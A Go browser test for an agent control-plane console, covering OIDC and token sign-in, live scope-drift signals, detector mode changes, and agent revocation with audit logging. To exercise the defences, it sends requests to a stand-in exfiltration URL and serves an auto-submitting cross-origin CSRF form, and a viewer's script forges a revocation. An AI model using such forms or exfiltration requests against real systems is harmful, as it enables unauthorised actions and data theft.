package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/stackctl/stack/internal/oidctest"
	"github.com/stackctl/stack/internal/testenv"
)

// newBrowser starts a headless Chromium for the test. The control plane
// and the OIDC provider use certificates of test CAs on loopback, which
// the browser is told to accept.
func newBrowser(t *testing.T) context.Context {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(testenv.LookPath(t, "chromium")), // Debian's; .ci/run installs it
		chromedp.NoSandbox, // CI runs as root
		chromedp.Flag("ignore-certificate-errors", true),
		chromedp.WindowSize(1400, 1000),
	)
	alloc, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancel)
	ctx, cancelCtx := chromedp.NewContext(alloc)
	t.Cleanup(cancelCtx)
	if err := chromedp.Do(ctx); err != nil { // start the browser now
		t.Fatalf("starting chromium: %v", err)
	}
	return ctx
}

// step runs browser actions with a deadline, failing the test with what
// the page shows when they do not finish.
func step(t *testing.T, ctx context.Context, what string, actions ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	if err := chromedp.Do(sctx, actions...); err != nil {
		ectx, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		body, _ := chromedp.Run(ectx, chromedp.Evaluate[string]("document.location.href + '\\n' + document.body.innerText"))
		t.Fatalf("%s: %v\npage: %s", what, err, body)
	}
}

// text is an element's text. It asks the page's script rather than the
// DOM agent, whose view of a document can go stale after a navigation
// through another origin (the OIDC provider).
func text(t *testing.T, ctx context.Context, sel string) string {
	t.Helper()
	sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	expr := fmt.Sprintf(`(() => { const e = document.querySelector(%q); return e ? e.innerText.trim() : ""; })()`, sel)
	s, err := chromedp.Run(sctx, chromedp.Evaluate[string](expr))
	if err != nil {
		t.Fatalf("text of %s: %v", sel, err)
	}
	return s
}

// oidcSignIn signs user in through the OIDC provider's sign-in form.
func oidcSignIn(t *testing.T, ctx context.Context, url, user string) {
	t.Helper()
	step(t, ctx, user+" signs in",
		chromedp.Navigate(url+"/ui/login"),
		chromedp.Click(chromedp.CSS("#oidc-login")),
		chromedp.WaitVisible(chromedp.CSS("#username")),
		chromedp.SendKeys(chromedp.CSS("#username"), user),
		chromedp.Click(chromedp.CSS("#sign-in")),
		chromedp.WaitVisible(chromedp.CSS("#role")),
	)
}

func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

// consoleFleet is a control plane whose console signs people in through
// a loopback OIDC provider (alice an admin, vera a viewer), with agent bot
// and its joined sidecar.
func consoleFleet(t *testing.T) (url, ctl string, sidecar runInfo) {
	t.Helper()
	idp := oidctest.NewIssuer(t)
	port := freePort(t)
	url = fmt.Sprintf("https://127.0.0.1:%d", port)
	idp.AddClient(oidctest.Client{ID: "stack-console", Secret: "console-secret", RedirectURLs: []string{url + "/ui/oidc/callback"}})
	dir := t.TempDir()
	ctl = filepath.Join(dir, "ctl")
	mustRun(t, ctl, "", "init", "--control")
	for name, body := range map[string][]byte{"idp-ca.pem": idp.CAPEM(), "client-secret": []byte("console-secret\n")} {
		if err := os.WriteFile(filepath.Join(dir, name), body, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	cfgPath := filepath.Join(ctl, "stack.yaml")
	cfg, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	oidcBlock := fmt.Sprintf(`    oidc:
      issuer: %q
      client_id: stack-console
      client_secret_file: %q
      redirect_url: %q
      ca: %q
      admins: [alice@example.test]
      viewers: [vera@example.test]
`, idp.URL(), filepath.Join(dir, "client-secret"), url+"/ui/oidc/callback", filepath.Join(dir, "idp-ca.pem"))
	start := strings.Index(string(cfg), "    oidc:\n")
	end := strings.Index(string(cfg), "      viewers: []\n")
	if start < 0 || end < start {
		t.Fatalf("stack.yaml has no console oidc block:\n%s", cfg)
	}
	cfg = []byte(string(cfg[:start]) + oidcBlock + string(cfg[end+len("      viewers: []\n"):]))
	if err := os.WriteFile(cfgPath, cfg, 0o600); err != nil {
		t.Fatal(err)
	}
	var info controlRunInfo
	startServer(t, ctl, controlRunFile, []string{"control", "--listen", fmt.Sprintf("127.0.0.1:%d", port)},
		func(b []byte) bool { return json.Unmarshal(b, &info) == nil && info.URL != "" })
	mustRun(t, ctl, "", "agent", "register", "bot", "--grant", "host=api.example.test,methods=GET", "--ttl", "5m")
	token := strings.TrimSpace(mustRun(t, ctl, "", "control", "join-token", "--agent", "bot"))
	caFile := filepath.Join(dir, "control-ca.pem")
	if err := os.WriteFile(caFile, []byte(mustRun(t, ctl, "", "control", "ca", "export")), 0o644); err != nil {
		t.Fatal(err)
	}
	sidecar = startSidecar(t, initHome(t), "--control", url, "--control-ca", caFile, "--join-token", token)
	return url, ctl, sidecar
}

// screenshot saves the page when STACK_CONSOLE_SCREENSHOTS names a
// directory (how docs/console.md's pictures are made).
func screenshot(t *testing.T, ctx context.Context, name string) {
	t.Helper()
	dir := os.Getenv("STACK_CONSOLE_SCREENSHOTS")
	if dir == "" {
		return
	}
	png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		t.Fatalf("screenshot %s: %v", name, err)
	}
	if err := os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644); err != nil {
		t.Fatal(err)
	}
}

// The console in a real browser: sign in with the operator token, watch
// a signal arrive live, flip a detector to block; a form posted from
// another origin and a viewer's revocation are refused; an admin signed
// in through OIDC revokes the agent, and its sidecar refuses its next
// request.
func TestConsoleInBrowser(t *testing.T) {
	browser := newBrowser(t)
	url, ctl, sc := consoleFleet(t)
	token, err := os.ReadFile(filepath.Join(ctl, "control.token"))
	if err != nil {
		t.Fatal(err)
	}
	if got := proxyReason(t, sc.Listen, ""); got == "passport_revoked" {
		t.Fatalf("bot refused before any revocation: %s", got)
	}

	// Sign in with the operator token.
	step(t, browser, "sign in with the token",
		chromedp.Navigate(url+"/ui/"),
		chromedp.WaitVisible(chromedp.CSS("#token")),
	)
	screenshot(t, browser, "login")
	step(t, browser, "sign in with the token",
		chromedp.SendKeys(chromedp.CSS("#token"), strings.TrimSpace(string(token))),
		chromedp.Click(chromedp.CSS("#token-submit")),
		chromedp.WaitVisible(chromedp.CSS(`#agents tr[data-agent="bot"]`)),
	)
	if role := text(t, browser, "#role"); role != "admin" {
		t.Fatalf("signed in with the token as %q", role)
	}

	// A live signal: the stream is open, then bot strays from its scope.
	step(t, browser, "open bot's page", chromedp.Navigate(url+"/ui/agents/bot"), chromedp.WaitVisible(chromedp.CSS("#stream-state.ok")))
	burst := time.Now()
	for range 5 {
		if got := proxyReasonFor(t, sc.Listen, "http://exfil.example.test/upload", ""); got != "scope_denied" {
			t.Fatalf("a request outside the scope: %q", got)
		}
	}
	step(t, browser, "see the signal", chromedp.WaitVisible(chromedp.CSS(`#signals li.signal[data-detector="scope_drift"]`)))
	t.Logf("the scope_drift signal reached the console %v after the burst began", time.Since(burst).Round(time.Millisecond))
	if s := text(t, browser, "#signals li.signal"); !strings.Contains(s, "exfil.example.test") || !strings.Contains(s, "bot") {
		t.Fatalf("signal shows %q", s)
	}
	screenshot(t, browser, "agent")

	// Flip credential_burst to block: the gate is not met on a new
	// agent, so the operator overrides it.
	row := `#detector-credential_burst `
	step(t, browser, "flip credential_burst to block",
		chromedp.SetValue(chromedp.CSS(row+`select[name="mode"]`), "block"),
		chromedp.SendKeys(chromedp.CSS(row+`input[name="reason"]`), "exfiltration seen in staging"),
		chromedp.Click(chromedp.CSS(row+`input[name="override"]`)),
		chromedp.Click(chromedp.CSS(row+`button[type="submit"]`)),
		chromedp.WaitVisible(chromedp.CSS("#notice")),
		chromedp.WaitVisible(chromedp.CSS(`#detector-credential_burst[data-mode="block"]`)),
	)
	out := mustRun(t, ctl, "", "agent", "detectors", "bot")
	if !strings.Contains(out, "credential_burst") || !strings.Contains(out, "block") {
		t.Fatalf("stack agent detectors after the flip:\n%s", out)
	}

	// A page of another origin posts a revocation with the browser's
	// cookie: no CSRF token, refused.
	attacker := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprintf(w, `<!doctype html><form method="post" action="%s/ui/agents/bot/revoke">
<input name="reason" value="pwned"><input name="confirm" value="bot"></form>
<script>document.forms[0].submit()</script>`, url)
	}))
	defer attacker.Close()
	step(t, browser, "a cross-origin post", chromedp.Navigate(attacker.URL), chromedp.WaitVisible(chromedp.CSS("#error")))
	if e := text(t, browser, "#error"); !strings.Contains(e, "CSRF") {
		t.Fatalf("the cross-origin post got %q", e)
	}
	if got := proxyReason(t, sc.Listen, ""); got == "passport_revoked" {
		t.Fatal("the cross-origin post revoked bot")
	}
	step(t, browser, "back to the overview", chromedp.Navigate(url+"/ui/"), chromedp.WaitVisible(chromedp.CSS(`#agents tr[data-agent="bot"]`)))
	screenshot(t, browser, "overview")

	// Vera signs in through the OIDC provider: a viewer, offered no
	// change, and refused one she forges with her own CSRF token.
	vera := newBrowser(t) // another person: a browser of her own
	oidcSignIn(t, vera, url, "vera")
	if role, user := text(t, vera, "#role"), text(t, vera, "#user"); role != "viewer" || user != "vera@example.test" {
		t.Fatalf("vera signed in as %q %q", user, role)
	}
	step(t, vera, "vera opens bot's page", chromedp.Navigate(url+"/ui/agents/bot"), chromedp.WaitVisible(chromedp.CSS("#timeline")))
	if n, err := chromedp.Run(vera, chromedp.Evaluate[int](`document.querySelectorAll("#revoke-form, .mode-form").length`)); err != nil || n != 0 {
		t.Fatalf("a viewer is offered %d change forms (%v)", n, err)
	}
	step(t, vera, "vera forges a revocation",
		chromedp.Evaluate[chromedp.Void](`(() => {
			const f = document.createElement("form");
			f.method = "post"; f.action = "/ui/agents/bot/revoke";
			for (const [k, v] of [["csrf", document.querySelector("input[name=csrf]").value], ["reason", "viewer"], ["confirm", "bot"]]) {
				const i = document.createElement("input"); i.name = k; i.value = v; f.append(i);
			}
			document.body.append(f); f.submit();
		})()`),
		chromedp.WaitVisible(chromedp.CSS("#error")),
	)
	if e := text(t, vera, "#error"); !strings.Contains(e, "viewer") {
		t.Fatalf("the viewer's revocation got %q", e)
	}
	if got := proxyReason(t, sc.Listen, ""); got == "passport_revoked" {
		t.Fatal("a viewer revoked bot")
	}

	// Alice, an admin through OIDC, revokes bot with a reason.
	alice := newBrowser(t)
	oidcSignIn(t, alice, url, "alice")
	if role := text(t, alice, "#role"); role != "admin" {
		t.Fatalf("alice signed in as %q", role)
	}
	step(t, alice, "alice revokes bot",
		chromedp.Navigate(url+"/ui/agents/bot"),
		chromedp.SendKeys(chromedp.CSS("#reason"), "leaked passport"),
		chromedp.SendKeys(chromedp.CSS("#confirm"), "bot"),
		chromedp.Click(chromedp.CSS("#revoke")),
		chromedp.WaitVisible(chromedp.CSS("#notice")),
	)
	if s := text(t, alice, "#agent-status"); s != "disabled" {
		t.Fatalf("bot is %q after the revocation", s)
	}
	deadline := time.Now().Add(10 * time.Second)
	for proxyReason(t, sc.Listen, "") != "passport_revoked" {
		if time.Now().After(deadline) {
			t.Fatalf("bot's sidecar still serves it 10s after the revocation: %s", proxyReason(t, sc.Listen, ""))
		}
		time.Sleep(50 * time.Millisecond)
	}
	// Who did what is in the control plane's audit log.
	log := mustRun(t, ctl, "", "audit", "export", "--format", "jsonl")
	for _, want := range []string{`console revoke_agent: by alice@example.test (admin)`, `console set_detector_mode: by operator token (admin)`, "leaked passport"} {
		if !strings.Contains(log, want) {
			t.Errorf("the control plane's audit log lacks %q", want)
		}
	}
	if strings.Contains(log, "pwned") {
		t.Error("the refused cross-origin post reached the audit log")
	}
}
